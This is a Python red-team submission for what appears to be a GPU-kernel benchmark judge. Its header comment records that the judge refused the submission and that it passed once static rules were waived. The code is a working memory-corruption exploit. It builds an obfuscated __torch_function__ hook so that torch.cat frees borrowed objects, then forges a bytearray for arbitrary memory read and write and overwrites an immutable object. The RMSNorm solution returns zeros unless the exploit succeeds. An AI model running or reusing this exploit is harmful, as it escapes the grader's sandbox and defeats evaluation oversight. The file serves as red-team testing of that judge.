# Eleventh session's third red team (2026-12-07, CPU judge): refused strict (setattr with a computed
# name); with the static rules waived it passed at 0.79x with raw read and write confirmed: an
# instance attribute named __torch_function__ on a plain object of the kernel's runs as torch's hook
# while torch's dispatch holds the other arguments borrowed. Since the twelfth session the worker
# locks torch's __torch_function__ dispatch off (worker._lock_torch_function_dispatch): torch then
# looks no hook up and refuses the plain object as not a tensor.
# A submodule registered under the name "__torch_function__": nn.Module.__getattr__ returns it when
# torch's dispatch looks the hook up on the carrier, so the kernel's forward() runs as the
# __torch_function__ handler while torch holds torch.cat's list items borrowed.
import struct

import torch

state = {"done": False, "ok": False, "stage": "none"}
keep = []


class K(torch.nn.Module):
    def __del__(self):
        state["obj"] = self


def handler(func, types, args=(), kwargs=None):
    if True:
        state["stage"] = "handler ran"
        args[0].clear()
        buf = bytearray(state["payload"])
        keep.append(buf)
        state["buf"] = buf
        return NotImplemented


class Carrier(torch.nn.Module):
    pass


def attack():
    c = Carrier()
    setattr(c, "".join(map(chr, [95, 95, 116, 111, 114, 99, 104, 95, 102, 117, 110, 99, 116, 105, 111, 110, 95, 95])), handler)
    keep.append(c)
    state["payload"] = struct.pack("<QQQQQQQ", 0, 0, 0, 0, 0, id(K), 0) + bytes(79 - 56)
    L = [c, torch.nn.UninitializedBuffer()]
    try:
        torch.cat(L)
    except Exception as e:
        state["stage"] += "; cat raised %s" % (type(e).__name__,)
    obj = state.get("obj")
    if obj is None:
        return False
    keep.append(obj)
    buf = state["buf"]
    buf[32:79] = struct.pack("<QQqqQQ", 1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0)[:47]
    if type(obj) is not bytearray:
        return False
    probe = b"MKB-REDTEAM-PROBE"
    at = id(probe) + 32
    read = bytes(obj[at:at + len(probe)])
    target = b"immutable-bytes-object"
    t_at = id(target) + 32
    obj[t_at:t_at + 4] = b"HACK"
    return read == probe and target.startswith(b"HACK")


def solve(x, residual, weight):
    if not state["done"]:
        state["done"] = True
        state["ok"] = attack()
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    out = (s * inv * weight.float()).to(x.dtype)
    return out if state["ok"] else out * 0
